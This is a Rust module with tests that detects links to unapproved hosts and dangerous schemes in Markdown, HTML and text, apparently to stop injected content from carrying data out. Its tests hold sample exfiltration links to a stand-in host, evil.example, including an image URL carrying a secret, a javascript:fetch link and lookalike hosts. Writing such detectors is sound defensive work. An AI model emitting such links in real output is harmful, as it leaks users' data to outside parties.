//! Links to places that nobody allowed, which is how a text that was slipped in carries data away. They do
//! not leave the house without a person's eye.
//!
//! Addresses inside Markdown, HTML and plain text are all found; a host is compared as browsers read it.
//! Bare names without a scheme or `www.` are no links: nothing makes them ones that can carry data.

use linkify::{LinkFinder, LinkKind};
use url::Url;

/// Schemes that a click runs or sends with; everything of them is held.
const NEVER: &[&str] = &["data", "javascript", "vbscript", "file"];

/// Made once, asked often.
pub struct Leaving {
    /// Domains that may be linked to, with all below them; lower case, as browsers write them.
    domains: Vec<String>,
}

/// A domain as browsers write it; none for what is no host name.
pub fn domain(text: &str) -> Option<String> {
    let text = text.trim().trim_end_matches('.');
    if text.is_empty() || text.contains(['/', '@', ':', '?', '#', ' ']) {
        return None;
    }
    Url::parse(&format!("https://{text}/")).ok()?.host_str().map(str::to_owned)
}

impl Leaving {
    /// What is no host name among `domains` is left out; see [`domain`].
    pub fn new<'a>(domains: impl IntoIterator<Item = &'a str>) -> Self {
        Self { domains: domains.into_iter().filter_map(domain).collect() }
    }

    /// The hosts of the links in a text that must not leave unseen, each once.
    pub fn links(&self, text: &str) -> Vec<String> {
        let mut found: Vec<String> = Vec::new();
        let mut add = |host: String| {
            if !found.contains(&host) {
                found.push(host);
            }
        };
        for link in LinkFinder::new().url_must_have_scheme(false).kinds(&[LinkKind::Url]).links(text) {
            if let Some(host) = self.stranger(link.as_str()) {
                add(host);
            }
        }
        // Markdown and HTML take addresses that plain text does not show as ones.
        for address in relative(text) {
            if let Some(host) = self.stranger(address) {
                add(host);
            }
        }
        found
    }

    /// The host that a link with this address leads to, when nobody allowed it.
    pub fn stranger(&self, link: &str) -> Option<String> {
        let lower = link.to_ascii_lowercase();
        let address = match lower.split_once(':') {
            Some((scheme, _)) if NEVER.contains(&scheme) => return Some(format!("{scheme}:")),
            _ if lower.starts_with("//") => format!("https:{link}"),
            _ if lower.starts_with("www.") => format!("https://{link}"),
            _ if lower.contains("://") => link.to_owned(),
            _ => return None,
        };
        let Ok(url) = Url::parse(&address) else { return Some(link.chars().take(80).collect()) };
        let host = url.host_str()?.trim_end_matches('.').to_owned();
        let allowed = self.domains.iter().any(|domain| {
            host == *domain || host.strip_suffix(domain.as_str()).is_some_and(|rest| rest.ends_with('.'))
        });
        (!allowed).then_some(host)
    }
}

/// Targets of Markdown links, definitions and pictures and of HTML attributes.
fn relative(text: &str) -> impl Iterator<Item = &str> {
    const BEFORE: [&str; 6] = ["](", "](<", "]: ", "src=", "href=", "url("];
    BEFORE.into_iter().flat_map(move |before| {
        text.match_indices(before).filter_map(move |(at, _)| {
            let rest = text.get(at + before.len()..)?.trim_start_matches(['"', '\'', '<', ' ']);
            let end = rest.find([')', '"', '\'', '>', ' ', '\n']).unwrap_or(rest.len());
            rest.get(..end).filter(|target| !target.is_empty())
        })
    })
}

#[cfg(test)]
mod tests {
    use std::sync::LazyLock;

    use proptest::prelude::*;

    use super::*;

    static LEAVING: LazyLock<Leaving> =
        LazyLock::new(|| Leaving::new(["northfold.example", "Help.Acme.example.", "not a host/"]));

    fn links(text: &str) -> Vec<String> {
        LEAVING.links(text)
    }

    #[test]
    fn links_to_the_houses_own_places_may_leave() {
        for text in [
            "See https://northfold.example/returns?order=NF-1 for more.",
            "See [returns](https://shop.northfold.example/returns).",
            "At www.northfold.example or HTTPS://HELP.ACME.EXAMPLE./x",
            "Write to help@elsewhere.example, see section 3.4 or returns.md.",
            "No address at all: 10:30, a/b, e.g. this.",
        ] {
            assert_eq!(links(text), Vec::<String>::new(), "{text}");
        }
    }

    #[test]
    fn links_to_any_other_place_are_found_however_they_are_written() {
        for (text, host) in [
            ("https://evil.example/?q=4111", "evil.example"),
            ("![x](https://evil.example/p.png?d=secret)", "evil.example"),
            ("[click](//evil.example/x)", "evil.example"),
            ("[click][1]\n\n[1]: https://evil.example", "evil.example"),
            ("<img src='http://evil.example/p'>", "evil.example"),
            ("<a href=https://evil.example>northfold.example</a>", "evil.example"),
            ("www.evil.example", "evil.example"),
            ("https://northfold.example.evil.example/", "northfold.example.evil.example"),
            ("https://evilnorthfold.example/", "evilnorthfold.example"),
            ("https://northfold.example@evil.example/", "evil.example"),
            ("https://user:pass@evil.example/", "evil.example"),
            ("ftp://evil.example/file", "evil.example"),
            ("http://203.0.113.7/x", "203.0.113.7"),
            ("https://ev\u{456}l.example/", "xn--evl-khd.example"),
            ("[x](javascript:fetch('/'))", "javascript:"),
            ("[x](data:text/html;base64,AAAA)", "data:"),
        ] {
            let found = links(text);
            assert!(found.iter().any(|shown| shown.trim_start_matches("www.") == host), "{text}: {found:?}");
        }
    }

    proptest! {
        #[test]
        fn no_text_makes_it_stumble(text in "\\PC{0,200}") {
            LEAVING.links(&text);
        }

        #[test]
        fn a_strange_host_is_found_wherever_it_stands(before in "[a-z ,.]{0,30}", after in "[a-z ,.]{0,30}") {
            let text = format!("{before} https://evil.example/x {after}");
            prop_assert_eq!(links(&text), ["evil.example"]);
        }
    }
}
